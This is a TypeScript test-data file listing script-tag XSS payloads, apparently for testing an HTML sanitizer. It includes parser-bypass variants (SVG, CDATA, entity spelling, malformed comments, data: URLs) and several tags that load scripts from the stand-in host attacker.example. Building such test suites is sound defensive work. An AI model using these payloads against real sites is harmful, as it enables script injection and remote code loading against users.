import { toAttacks, type Attack } from './attack.ts'

const family = 'script tags'

export const scriptTagAttacks: Attack[] = [
  ...toAttacks(
    { family, bites: 'script', written: 'parsed' },
    {
      'plain script': '<script>bite()</script>',
      'script in capitals': '<SCRIPT>bite()</SCRIPT>',
      'script with a slash': '<script/x>bite()</script>',
      'script over two lines': '<script\n>bite()</script\n>',
      'script after a form feed': '<script\f>bite()</script>',
      'module script': '<script type=module>bite()</script>',
      'script with an old language': '<script language=javascript>bite()</script>',
      'script of an escaped comment': '<script><!--\nbite()\n//--></script>',
      'script closing a paragraph': '</p></div><script>bite()</script>',
      'script in an unknown element': '<reader-widget><script>bite()</script></reader-widget>',
      'script in a list in a table': '<table><tr><td><ul><li><script>bite()</script></table>',
      'script from a data address': '<script src="data:text/javascript,bite()"></script>',
      'module from a data address':
        '<script type=module src="data:text/javascript,bite()"></script>',
      'module importing a data address':
        '<script type=module>import "data:text/javascript,bite()"</script>',
      'script in svg': '<svg><script>bite()</script></svg>',
      'script in svg spelled by entities': '<svg><script>&#98;ite&lpar;&rpar;</script></svg>',
      'script in svg in a character section': '<svg><script><![CDATA[bite()]]></script></svg>',
      'script in svg by reference':
        '<svg><script href="data:text/javascript,bite()"></script></svg>',
      'script in svg by old reference':
        '<svg><script xlink:href="data:text/javascript,bite()"></script></svg>',
      'script behind a text area': '<textarea></textarea ><script>bite()</script>',
      'script hidden in a comment that ends early': '<!--><script>bite()</script>-->',
      'script hidden in a comment that ends oddly': '<!-- --!><script>bite()</script>-->',
      'script behind a bogus comment': '<!x><script>bite()</script>',
      'script behind a processing instruction': '<?php ?><script>bite()</script>',
    },
  ),
  ...toAttacks(
    { family, bites: 'request', written: 'parsed' },
    {
      'script of another host': '<script src=https://attacker.example/a.js></script>',
      'script of another host without scheme':
        '<script async src=//attacker.example/b.js></script>',
      'script of another host behind a backslash':
        '<script src="/\\attacker.example/c.js"></script>',
      'module of another host': '<script type=module src=https://attacker.example/d.js></script>',
      'import from another host':
        '<script type=module>import "https://attacker.example/e.js"</script>',
      'svg script of another host':
        '<svg><script href="https://attacker.example/f.js"></script></svg>',
    },
  ),
]
